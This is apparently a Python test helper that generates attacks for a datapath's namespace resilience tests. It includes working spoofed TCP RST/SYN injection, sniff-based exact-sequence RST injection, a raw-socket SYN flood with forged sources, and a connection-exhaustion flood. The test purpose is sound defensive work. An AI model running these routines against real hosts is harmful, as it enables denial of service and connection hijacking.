#!/usr/bin/env python3
"""Attacks on the state and the traffic that must survive them, for the
namespace tests of docs/datapath.md "Under attack".  Every call is bounded
in packets and time; addresses are the tests' documentation addresses.

  attack.py echo-server PORT SECONDS
        TCP echo on [::]:PORT (IPv4 too), one thread per connection
  attack.py stream HOST PORT SPORT SECONDS [STOPFILE]
        connect from SPORT, send a line every 20 ms and read it back for
        SECONDS (or until STOPFILE exists); prints "ok LINES MAXGAP_MS" or "error WHAT LINES MAXGAP_MS"
        (MAXGAP: the longest wait for an echo)
  attack.py connects HOST PORT N INTERVAL TIMEOUT
        N connections INTERVAL seconds apart, each given TIMEOUT seconds to
        open and echo; prints "ok SUCCEEDED N"
  attack.py blind IFACE DMAC SRC SPORT DST DPORT NRST NSYN
        spoofed segments on a flow's 4-tuple (SRC:SPORT -> DST:DPORT): NRST
        RSTs, then NSYN SYNs, with random sequence numbers; prints the count
  attack.py exact-rst IFACE DMAC SRC SPORT DST DPORT
        waits for the next data segment SRC:SPORT -> DST:DPORT and sends the
        RST an on-path attacker could: the sender's next sequence number
  attack.py synflood IFACE DMAC DST DPORT SECONDS
        SYNs from random sources in 203.0.113.0/24 (2001:db8:f::/64) at
        the generator's full rate; prints "flooding" when it starts, then
        the count
  attack.py blackhole HOST PORT SECONDS
        non-blocking connect()s to a black hole, as many as the process can
        (for an unprivileged user); prints "flooding" when it starts, then
        the count
  attack.py udp-server PORT SIZE SECONDS
        answers every datagram with SIZE bytes (fragmented by the sender)
  attack.py udp-query HOST PORT QSIZE SIZE
        sends QSIZE bytes, waits 3 s for SIZE bytes; prints "ok" or "lost"
"""
import errno
import os
import random
import resource
import select
import socket
import sys
import threading
import time

from serve import arrivals, dual_stack, family  # the namespace tests' own helpers


def echo_server(port, seconds):
    end = time.time() + seconds
    s = dual_stack(socket.SOCK_STREAM)
    s.bind(("::", port))
    s.listen(128)

    def serve(c):
        c.settimeout(max(1, end - time.time()))
        try:
            while True:
                b = c.recv(4096)
                if not b:
                    break
                c.sendall(b)
        except OSError:
            pass
        c.close()

    for c, _ in arrivals(s, end, s.accept):
        threading.Thread(target=serve, args=(c,), daemon=True).start()


def stream(host, port, sport, seconds, stopfile=None):
    n, maxgap = 0, 0.0
    try:
        s = socket.socket(family(host), socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("", sport))
        s.settimeout(3)
        s.connect((host, port))
        end = time.time() + seconds
        while time.time() < end and not (stopfile and os.path.exists(stopfile)):
            t0 = time.time()
            s.sendall(b"x" * 63 + b"\n")
            got = b""
            while len(got) < 64:
                b = s.recv(64 - len(got))
                if not b:
                    raise OSError("closed by the server")
                got += b
            maxgap = max(maxgap, time.time() - t0)
            n += 1
            time.sleep(0.02)
        s.close()
        print("ok %d %d" % (n, maxgap * 1000))
    except OSError as e:
        what = errno.errorcode.get(e.errno, str(e)) if e.errno else str(e).replace(" ", "_")
        print("error %s %d %d" % (what, n, maxgap * 1000))


def connects(host, port, n, interval, timeout):
    good = 0
    for _ in range(n):
        t0 = time.time()
        try:
            with socket.create_connection((host, port), timeout=timeout) as s:
                s.sendall(b"hello\n")
                if s.recv(16):
                    good += 1
        except OSError:
            pass
        time.sleep(max(0.0, interval - (time.time() - t0)))
    print("ok %d %d" % (good, n))


def l2socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    return s


def frame(dmac, ip):
    from scapy.all import Ether
    return bytes(Ether(dst=dmac) / ip)


def ip_layer(src, dst):
    from scapy.all import IP, IPv6
    return IPv6(src=src, dst=dst) if ":" in src else IP(src=src, dst=dst)


def csum_add(cs, old, new):
    """RFC 1624: the checksum after a 16-bit word changed from old to new."""
    x = (~cs & 0xffff) + (~old & 0xffff) + new
    x = (x & 0xffff) + (x >> 16)
    x = (x & 0xffff) + (x >> 16)
    return ~x & 0xffff


def put16(f, off, value, csums):
    """Writes a 16-bit word of the bytearray frame f, keeping the checksums
    at the offsets csums right (RFC 1624)."""
    old = int.from_bytes(f[off:off + 2], "big")
    f[off:off + 2] = value.to_bytes(2, "big")
    for c in csums:
        f[c:c + 2] = csum_add(int.from_bytes(f[c:c + 2], "big"), old, value).to_bytes(2, "big")


def with_seq(tmpl, l4, seq):
    """The template frame with another TCP sequence number."""
    f = bytearray(tmpl)
    put16(f, l4 + 4, seq >> 16, [l4 + 16])
    put16(f, l4 + 6, seq & 0xffff, [l4 + 16])
    return bytes(f)


def blind(iface, dmac, src, sport, dst, dport, nrst, nsyn):
    from scapy.all import TCP
    s = l2socket(iface)
    rnd = random.Random(9)
    l4 = 14 + (40 if ":" in src else 20)
    tmpl = {fl: frame(dmac, ip_layer(src, dst) / TCP(sport=sport, dport=dport, flags=fl, seq=0, window=0))
            for fl in ("R", "S")}
    sent = 0
    for i in range(nrst + nsyn):
        s.send(with_seq(tmpl["R" if i < nrst else "S"], l4, rnd.getrandbits(32)))
        sent += 1
    print(sent)


def exact_rst(iface, dmac, src, sport, dst, dport):
    from scapy.all import TCP, sniff
    pkts = sniff(iface=iface, count=1, timeout=5,
                 lfilter=lambda p: TCP in p and p[TCP].sport == sport and p[TCP].dport == dport
                 and len(p[TCP].payload) > 0)
    if not pkts:
        print("no segment seen")
        sys.exit(1)
    t = pkts[0][TCP]
    seq = (t.seq + len(t.payload)) & 0xffffffff
    s = l2socket(iface)
    s.send(frame(dmac, ip_layer(src, dst) / TCP(sport=sport, dport=dport, flags="R", seq=seq)))
    print(seq)


def synflood(iface, dmac, dst, dport, seconds):
    """From a template SYN, with the source address and port (and the
    checksums) patched: 8192 distinct flows, twice the tests' table."""
    from scapy.all import TCP
    rnd = random.Random(7)
    v6 = ":" in dst
    src0 = "2001:db8:f::1" if v6 else "203.0.113.1"
    tmpl = frame(dmac, ip_layer(src0, dst) / TCP(sport=1024, dport=dport, flags="S", seq=rnd.getrandbits(32)))
    l4 = 14 + (40 if v6 else 20)
    saddr_last = 14 + (8 + 14 if v6 else 12 + 2)  # the source address's last 16-bit word
    csums = [l4 + 16] if v6 else [14 + 10, l4 + 16]
    frames = []
    for i in range(8192):
        f = bytearray(tmpl)
        put16(f, saddr_last, (113 << 8 | (i % 250 + 1)) if not v6 else rnd.randrange(1, 0xffff), csums)
        put16(f, l4, rnd.randrange(1024, 65535), [l4 + 16])
        frames.append(bytes(f))
    s = l2socket(iface)
    s.setblocking(False)
    print("flooding", flush=True)
    end = time.time() + seconds
    sent = 0
    while time.time() < end:
        for f in frames[:1024]:
            try:
                s.send(f)
                sent += 1
            except BlockingIOError:
                select.select([], [s], [], 0.01)
        frames = frames[1024:] + frames[:1024]
    print(sent)


def blackhole(host, port, seconds):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print("flooding", flush=True)
    end = time.time() + seconds
    made, open_ = 0, []
    while time.time() < end:
        try:
            s = socket.socket(family(host), socket.SOCK_STREAM)
            s.setblocking(False)
            s.connect_ex((host, port))
            open_.append(s)
            made += 1
        except OSError:
            pass
        if len(open_) >= 2000 or (open_ and made % 2000 == 0):
            for s in open_:
                s.close()
            open_ = []
    print(made)


def udp_server(port, size, seconds):
    s = dual_stack(socket.SOCK_DGRAM)
    s.bind(("::", port))
    end = time.time() + seconds
    for _, peer in arrivals(s, end, lambda: s.recvfrom(65535)):
        s.sendto(b"a" * size, peer)


def udp_query(host, port, qsize, size):
    s = socket.socket(family(host), socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(b"q" * qsize, (host, port))
    try:
        b = s.recv(65535)
        print("ok" if len(b) == size else "short %d" % len(b))
    except socket.timeout:
        print("lost")


def main(a):
    cmd, args = a[0], a[1:]
    if cmd == "echo-server":
        echo_server(int(args[0]), float(args[1]))
    elif cmd == "stream":
        stream(args[0], int(args[1]), int(args[2]), float(args[3]), args[4] if len(args) > 4 else None)
    elif cmd == "connects":
        connects(args[0], int(args[1]), int(args[2]), float(args[3]), float(args[4]))
    elif cmd == "blind":
        blind(args[0], args[1], args[2], int(args[3]), args[4], int(args[5]), int(args[6]), int(args[7]))
    elif cmd == "exact-rst":
        exact_rst(args[0], args[1], args[2], int(args[3]), args[4], int(args[5]))
    elif cmd == "synflood":
        synflood(args[0], args[1], args[2], int(args[3]), float(args[4]))
    elif cmd == "blackhole":
        blackhole(args[0], int(args[1]), float(args[2]))
    elif cmd == "udp-server":
        udp_server(int(args[0]), int(args[1]), float(args[2]))
    elif cmd == "udp-query":
        udp_query(args[0], int(args[1]), int(args[2]), int(args[3]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv[1:])
